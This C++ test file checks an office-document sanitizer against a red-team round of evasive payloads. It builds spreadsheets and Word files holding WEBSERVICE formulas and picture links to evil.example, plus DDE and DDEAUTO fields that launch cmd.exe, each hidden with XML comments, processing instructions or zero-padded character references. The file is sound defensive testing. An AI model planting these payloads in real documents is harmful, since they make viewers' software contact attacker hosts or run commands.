// sanitizer.ooxml (and the XML reading it shares with sanitizer.odf), red-team round 2 of
// 2026-12-02: markup and references that an XML parser reads one way and our scanner read
// another (comments and processing instructions inside a formula or field code, character
// references with leading zeros), hyperlink relationships used as linked pictures, and a
// quadratic entity decoder. Each package is built here; LibreOffice was seen fetching or
// evaluating every one of them before the fix.
#include <catch2/catch.hpp>
#include <chrono>

#include "sanitizers/ooxml/formulas.h"
#include "sanitizers/ooxml/ooxml.h"
#include "src/zip/xml_lite.h"
#include "support/test_support.h"
#include "unit/sanitizers/office_checks.h"
#include "unit/sanitizers/office_fixtures.h"

using namespace mugai;
using namespace mugai::test::office;
using mugai::sanitizers::ooxml::OoxmlSanitizer;
using mugai::sanitizers::ooxml::Options;
using mugai::test::findingsText;

namespace {

constexpr const char* kRelNs =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

std::string rels(const std::string& inner) {
  return R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)"
         "\n<Relationships "
         R"(xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)" +
         inner + "</Relationships>";
}

std::string rel(const std::string& id, const std::string& type, const std::string& target,
                const std::string& extra = "") {
  return R"(<Relationship Id=")" + id + R"(" Type=")" + kRelNs + "/" + type + R"(" Target=")" +
         target + "\"" + extra + "/>";
}

/// An .xlsx: one sheet with `cells` (the inside of sheetData) and `names` (definedName elements).
std::string xlsx(const std::string& cells, const std::string& names = "") {
  const std::string ns =
      std::string(
          R"(xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r=")") +
      kRelNs + "\"";
  Members m = {
      {"[Content_Types].xml",
       R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>)"},
      {"_rels/.rels", rels(rel("rId1", "officeDocument", "xl/workbook.xml"))},
      {"xl/workbook.xml",
       "<workbook " + ns + R"(><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>)" +
           (names.empty() ? "" : "<definedNames>" + names + "</definedNames>") + "</workbook>"},
      {"xl/_rels/workbook.xml.rels", rels(rel("rId1", "worksheet", "worksheets/sheet1.xml"))},
      {"xl/worksheets/sheet1.xml",
       "<worksheet " + ns + "><sheetData>" + cells + "</sheetData></worksheet>"},
  };
  return pack(m);
}

/// A .docx whose body is `body` and whose document relationships are `doc_rels`.
std::string docx(const std::string& body, const std::string& doc_rels = "") {
  Members m = {
      {"[Content_Types].xml",
       R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)"},
      {"_rels/.rels", rels(rel("rId1", "officeDocument", "word/document.xml"))},
      {"word/document.xml",
       std::string(
           R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r=")") +
           kRelNs + R"("><w:body><w:p><w:r><w:t>Body text</w:t></w:r></w:p>)" + body +
           "</w:body></w:document>"},
      {"word/_rels/document.xml.rels", rels(doc_rels)},
      {"word/media/image1.png", chainPng()},
  };
  return pack(m);
}

std::string blip(const std::string& attr, const std::string& id) {
  return "<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip " + attr + "=\"" + id +
         "\"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>";
}

}  // namespace

TEST_CASE("redteam2: a formula split by a comment or PI, or spelled with zero-padded references",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  struct Case {
    const char* cell;
    const char* what;
  };
  // What Excel's and LibreOffice's XML parsers hand over is WEBSERVICE(...) each time
  // (LibreOffice evaluates SU<!-- -->M(1,2) and &#x00000053;UM(1,2) as 3).
  const Case cases[] = {
      {R"(<c r="A1" t="str"><f>WEB<!-- -->SERVICE("http://evil.example/c")</f><v>v</v></c>)",
       "WEBSERVICE"},
      {R"(<c r="A1" t="str"><f>_xlfn.WEB<?pi x?>SERVICE("http://evil.example/p")</f><v>v</v></c>)",
       "WEBSERVICE"},
      {R"(<c r="A1" t="str"><f>&#x0000000057;EBSERVICE("http://evil.example/h")</f><v>v</v></c>)",
       "WEBSERVICE"},
      {R"(<c r="A1" t="str"><f>&#000000087;EBSERVICE("http://evil.example/d")</f><v>v</v></c>)",
       "WEBSERVICE"},
      {R"(<c r="A1" t="str"><f>_xludf.WEBSERVICE("http://evil.example/u")</f><v>v</v></c>)",
       "WEBSERVICE"},
      {R"(<c r="A1"><f>cmd<!---->|'/c calc'!A0</f><v>0</v></c>)", "DDE"},
  };
  for (const Case& c : cases) {
    INFO(c.cell);
    Outcome o = runSanitizer(s, xlsx(std::string("<row r=\"1\">") + c.cell + "</row>"), "f.xlsx");
    INFO(findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(hasFinding(o, "removed",
                     std::string("xl/worksheets/sheet1.xml: formula ") + c.what + " x1"));
    std::string sheet = zipMemberText(o.replacement->data, "xl/worksheets/sheet1.xml");
    CHECK(sheet.find("<f>") == std::string::npos);
    CHECK(sheet.find("<v>") != std::string::npos);
  }
  Outcome n = runSanitizer(
      s,
      xlsx(R"(<row r="1"><c r="A1"><f>leak</f><v>0</v></c></row>)",
           R"(<definedName name="leak">WEB<!---->SERVICE("http://evil.example/n")</definedName>)"),
      "n.xlsx");
  CHECK(hasFinding(n, "removed", "xl/workbook.xml: definedName WEBSERVICE x1"));
  // Harmless formulas split the same way stay as they are.
  CHECK(runSanitizer(s, xlsx(R"(<row r="1"><c r="A1"><f>SU<!-- -->M(1,2)</f><v>3</v></c></row>)"),
                     "ok.xlsx")
            .verdict == Verdict::Pass);
}

TEST_CASE("redteam2: field codes split by a comment or spelled with zero-padded references",
          "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  auto complex = [](const std::string& instr) {
    return R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">)" +
           instr +
           R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  };
  for (
      const std::string& body :
      {complex(R"( DDE<!-- -->AUTO c:\\windows\\system32\\cmd.exe "/k calc" )"),
       complex(R"( &#x0000000044;DEAUTO c:\\windows\\system32\\cmd.exe "/k calc" )"),
       complex(R"( INCLUDE<?x?>PICTURE "\\\\evil.example\\share\\p.png" \d )"),
       std::string(
           R"(<w:p><w:fldSimple w:instr=" &#x0000000044;DEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>)")}) {
    INFO(body);
    Outcome o = runSanitizer(s, docx(body, rel("rId5", "image", "media/image1.png")), "f.docx");
    INFO(findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(hasFinding(o, "neutralised", "field ", true));
    std::string doc = zipMemberText(o.replacement->data, "word/document.xml");
    CHECK(doc.find("cmd.exe") == std::string::npos);
    CHECK(doc.find("evil.example") == std::string::npos);
    CHECK(doc.find("shown") != std::string::npos);
  }
}

TEST_CASE(
    "redteam2: external relationships that did not look external, hyperlinks used as pictures",
    "[ooxml][adversarial]") {
  OoxmlSanitizer s(Options{});
  struct Case {
    std::string body, rels;
  };
  // LibreOffice fetched the picture of each of these (a request to the address on conversion).
  const Case cases[] = {
      // TargetMode spelled with a zero-padded character reference / with blanks around it.
      {blip("r:link", "rId5"), rel("rId5", "image", "http://evil.example/t1.png",
                                   R"( TargetMode="&#x0000000045;xternal")")},
      {blip("r:link", "rId5"),
       rel("rId5", "image", "http://evil.example/t2.png", R"( TargetMode=" External ")")},
      // An internal target that is no member of the package.
      {blip("r:embed", "rId5"), rel("rId5", "image", "http://evil.example/t3.png")},
      // A (kept) web hyperlink's relationship named by a picture: LibreOffice does not look at
      // the relationship's type.
      {blip("r:link", "rId5"),
       rel("rId5", "hyperlink", "http://evil.example/t4.png", R"( TargetMode="External")")},
      {blip("r:embed", "rId5"),
       rel("rId5", "hyperlink", "http://evil.example/t5.png", R"( TargetMode="External")")},
  };
  for (const Case& c : cases) {
    INFO(c.rels);
    Outcome o = runSanitizer(s, docx(c.body, c.rels), "r.docx");
    INFO(findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    std::string doc = zipMemberText(o.replacement->data, "word/document.xml");
    CHECK(doc.find("a:blip") == std::string::npos);
    CHECK(doc.find("Body text") != std::string::npos);
    std::string r = zipMemberText(o.replacement->data, "word/_rels/document.xml.rels");
    // A hyperlink relationship may stay (hyperlinks: keep); nothing uses it as a picture.
    if (c.rels.find("/hyperlink\"") == std::string::npos)
      CHECK(r.find("evil.example") == std::string::npos);
  }
  // A hyperlink element using it is what hyperlinks are for: the package is untouched.
  std::string ok = docx(
      R"(<w:p><w:hyperlink r:id="rId5"><w:r><w:t>link</w:t></w:r></w:hyperlink><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rId6"/><a:hlinkClick r:id="rId5"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)",
      rel("rId5", "hyperlink", "https://example.org/", R"( TargetMode="External")") +
          rel("rId6", "image", "media/image1.png"));
  CHECK(runSanitizer(s, ok, "ok.docx").verdict == Verdict::Pass);
}

TEST_CASE("redteam2: reference decoding and element text stay linear", "[ooxml][adversarial]") {
  using zip::xml::decode;
  using zip::xml::textContent;
  CHECK(decode("&#x0000000057;&#0000087;&amp;&lt;&gt;&quot;&apos;&#x41;&#65;") == "WW&<>\"'AA");
  CHECK(decode("&bogus;&#;&#x;&#xG1;&#0;&#x110000;&amp") ==
        "&bogus;&#;&#x;&#xG1;&#0;&#x110000;&amp");
  CHECK(textContent(R"(A<!-- x -->B<?p q?>C<![CDATA[<D>]]><x a=">">E</x>&#x46;)") == "ABC<D>EF");
  // 4 MB of '&', of "&#" and of zero digits without ';' (each used to look for a ';' to the end).
  auto t0 = std::chrono::steady_clock::now();
  for (const std::string& s : {std::string(4000000, '&'),
                               [] {
                                 std::string r;
                                 for (int i = 0; i < 2000000; ++i) r += "&#";
                                 return r;
                               }(),
                               "&#x" + std::string(4000000, '0')}) {
    CHECK(decode(s).size() == s.size());
    CHECK(textContent(s).size() == s.size());
  }
  // Through the sanitizer: a 2 MB formula and a 2 MB attribute of '&' (stored, not deflated, so
  // no expansion limit stops them first) used to take 30 s each.
  zip::Writer w;
  Members m = {
      {"[Content_Types].xml",
       R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>)"},
      {"_rels/.rels", rels(rel("rId1", "officeDocument", "xl/workbook.xml"))},
      {"xl/workbook.xml",
       std::string(R"(<workbook xmlns:r=")") + kRelNs +
           R"("><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>)"},
      {"xl/_rels/workbook.xml.rels", rels(rel("rId1", "worksheet", "worksheets/sheet1.xml") +
                                          rel("rId2", "image", std::string(2000000, '&')))},
      {"xl/worksheets/sheet1.xml", "<worksheet><sheetData><row><c><f>" + std::string(2000000, '&') +
                                       "</f></c></row></sheetData></worksheet>"}};
  for (const auto& [n, d] : m) w.addStored(n, d);
  OoxmlSanitizer s(Options{});
  Outcome o = runSanitizer(s, *w.finish(), "amp.xlsx");
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  CHECK(secs < 3.0);
  // The 2 MB of bare '&' are not well-formed XML: after the (linear) formula scan, expat's check
  // of the parts that stay fails the package closed.
  CHECK(o.reason == Reason::ParseMalformed);
}
